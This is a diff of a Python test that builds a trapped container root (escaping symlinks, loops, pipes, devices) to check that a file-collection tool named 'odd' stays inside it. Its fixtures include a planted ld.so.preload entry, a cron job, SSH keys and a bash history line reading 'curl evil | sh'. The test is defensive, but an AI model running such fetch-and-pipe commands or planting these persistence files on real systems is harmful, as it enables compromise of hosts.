@@ -3,12 +3,9 @@
 """A container root full of traps: links that lead out of it, loops, a pipe that somebody waits at, devices, sockets, a
 directory that is swapped for a link all the time. Nothing outside of the root is read, and nothing is opened that is
 no regular file. What changed in it is listed, and what tells most of it is kept."""
-import ctypes
 import hashlib
 import os
-import re
 import secrets
-import shutil
 import socket
 import stat
 import subprocess
@@ -16,12 +13,11 @@ import threading
 import time
 
 import odd
+import own_root
 import snapshot
 from checks import equal, finish, holds
+from own_root import into, write
 
-LIBC = ctypes.CDLL(None, use_errno=True)
-CLONE_NEWNS, MNT_DETACH = 0x20000, 2
-PIVOT_ROOT = {"x86_64": 155, "aarch64": 41}[os.uname().machine]
 KEPT = {"/tmp/note": b"dropped here\n", "/etc/ld.so.preload": b"/tmp/evil.so\n",
         "/root/.ssh/authorized_keys": b"ssh-x\n", "/root/.bash_history": b"curl evil | sh\n", "/var/log/amazon/ssm/agent.log": b"session\n",
         "/etc/cron.d/job": b"* * * * * root /tmp/x\n", "/tmp/sh\\ort \xff\n name": b"odd name\n",
@@ -29,28 +25,11 @@ KEPT = {"/tmp/note": b"dropped here\n", "/etc/ld.so.preload": b"/tmp/evil.so\n",
 LISTED = {"/srv/app": b"#!/bin/sh\n", "/tmp/key.pem": b"-----BEGIN RSA PRIVATE KEY-----\nbm9uZQ==\n"}
 
 
-def must_be_zero(result, what):
-    if result != 0:
-        raise OSError(ctypes.get_errno(), what)
-
-
-def write(path, data):
-    os.makedirs(os.path.dirname(path), exist_ok=True)
-    with open(path, "wb") as file:
-        file.write(data)
-
-
 def fill(root, secret):
     """The program with its libraries, the files that are to be found, and the traps."""
-    libraries = subprocess.run(["ldd", odd.PROGRAM], capture_output=True, check=True).stdout.decode()
-    for path in [odd.PROGRAM, *re.findall(r"(/\S+) \(0x", libraries)]:
-        place = root + ("/srv/odd" if path == odd.PROGRAM else path)
-        os.makedirs(os.path.dirname(place), exist_ok=True)
-        shutil.copy(path, place)
+    own_root.fill(root, odd.PROGRAM, "/srv/odd")
     for path, data in {**KEPT, **LISTED}.items():
         write(os.fsencode(root) + path.encode("latin-1"), data)
-    os.mkdir(root + "/proc")
-    os.mkdir(root + "/old")
     os.symlink("/srv/app", root + "/tmp/good")
     os.symlink("../../../../../../../../srv/../srv/./app", root + "/tmp/good-up")
     os.symlink(secret, root + "/tmp/absolute")
@@ -68,18 +47,6 @@ def fill(root, secret):
     os.mkdir(root + "/tmp/flip")
     write(root + "/tmp/flip/secret", b"harmless")
     os.symlink("/proc/1/root" + os.path.dirname(secret), root + "/tmp/flop")
-
-
-def into(root):
-    """In the child, before it becomes the program: a mount namespace whose root that directory is."""
-    must_be_zero(LIBC.unshare(CLONE_NEWNS), "unshare")
-    must_be_zero(LIBC.mount(b"none", b"/", None, 0x44000, None), "private")
-    must_be_zero(LIBC.mount(root.encode(), root.encode(), None, 4096, None), "bind")
-    must_be_zero(LIBC.mount(b"proc", root.encode() + b"/proc", b"proc", 0, None), "proc")
-    os.chdir(root)
-    must_be_zero(LIBC.syscall(PIVOT_ROOT, b".", b"old"), "pivot_root")
-    must_be_zero(LIBC.umount2(b"/old", MNT_DETACH), "umount")
-    os.chdir("/tmp")
 
 
 def start(root, *arguments):
